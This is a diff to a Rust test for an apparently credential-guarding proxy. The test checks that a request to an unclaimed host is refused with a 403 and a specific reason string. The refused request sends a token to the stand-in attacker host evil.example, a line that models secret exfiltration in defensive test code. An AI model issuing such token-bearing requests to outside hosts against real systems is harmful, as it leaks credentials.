@@ -105,10 +105,20 @@ async fn a_host_that_no_vault_claims_is_refused_and_journaled() {
         .send(get("https://evil.example/x?token=t"))
         .await
         .unwrap_err();
-    let Error::ProxyRefused { status, body, .. } = refused else {
+    let Error::ProxyRefused {
+        status,
+        reason,
+        body,
+        ..
+    } = refused
+    else {
         panic!("{refused}");
     };
     assert_eq!(status, 403);
+    assert_eq!(
+        reason,
+        "Forbidden: no vault of this run claims evil.example"
+    );
     assert!(body.contains("evil.example"), "{body}");
     let plain = world
         .client()
